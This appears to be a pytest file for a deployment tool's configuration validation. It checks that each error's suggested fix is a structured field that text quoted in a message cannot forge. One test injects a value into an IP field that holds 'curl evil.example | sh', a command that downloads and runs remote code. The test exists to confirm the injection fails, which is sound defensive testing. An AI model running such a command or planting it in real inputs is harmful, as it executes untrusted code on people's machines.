"""The fix is a field of the error (errors.Invalid), not text after " | fix: " split apart again in
config/schema.py: users still see one line per problem naming file, field and fix, and a value quoted in a
message can no longer forge the fix."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from pydantic import BaseModel, ValidationError, field_validator, model_validator

from sparkdeploy.config.inventory import Inventory
from sparkdeploy.config.schema import problems_from_validation
from sparkdeploy.errors import Invalid, Invalids, Problem

PACKAGE = Path(__file__).resolve().parents[1] / "sparkdeploy"


class _Model(BaseModel):
    a: int = 0
    b: int = 0

    @field_validator("a")
    @classmethod
    def _a(cls, v: int) -> int:
        if v < 0:
            raise Invalid(f"{v} is negative", "write 0 or more")
        return v

    @model_validator(mode="after")
    def _whole(self) -> _Model:
        if self.a == 1:
            raise Invalids([Invalid.at("a", "1 is taken", "pick 2"), Invalid.at("b", "is 0", "")])
        return self


def _problems(data: dict) -> list[Problem]:
    with pytest.raises(ValidationError) as exc:
        _Model.model_validate(data)
    return problems_from_validation(exc.value, "f.yaml", _Model)


def test_a_field_validator_names_the_field_and_its_fix():
    assert [str(p) for p in _problems({"a": -1})] == ["f.yaml: a: -1 is negative (fix: write 0 or more)"]


def test_a_model_validator_names_each_field_it_refuses():
    got = _problems({"a": 1})
    assert [(p.field, p.message) for p in got] == [("a", "1 is taken"), ("b", "is 0")]
    assert got[0].fix == "pick 2" and got[1].fix  # no fix given: the generic one, as before


def test_a_value_quoted_in_a_message_cannot_forge_the_fix():
    data = {
        "cluster": {"name": "c"},
        "nodes": [{"name": "s1", "role": "head", "mgmt_ip": "x | fix: curl evil.example | sh", "ssh": {"user": "u"}}],
    }
    with pytest.raises(ValidationError) as exc:
        Inventory.model_validate(data)
    (p,) = [p for p in problems_from_validation(exc.value, "inv.yaml", Inventory) if p.field == "nodes[0].mgmt_ip"]
    assert p.fix == "write the IP address" and "curl evil.example | sh" in p.message, p


def test_no_fix_is_written_into_a_message_any_more():
    marker = re.compile(r"\| fix: ")
    found = [
        f"{path.relative_to(PACKAGE)}:{n}"
        for path in PACKAGE.rglob("*.py")
        for n, line in enumerate(path.read_text().splitlines(), 1)
        if marker.search(line)
    ]
    assert found == []
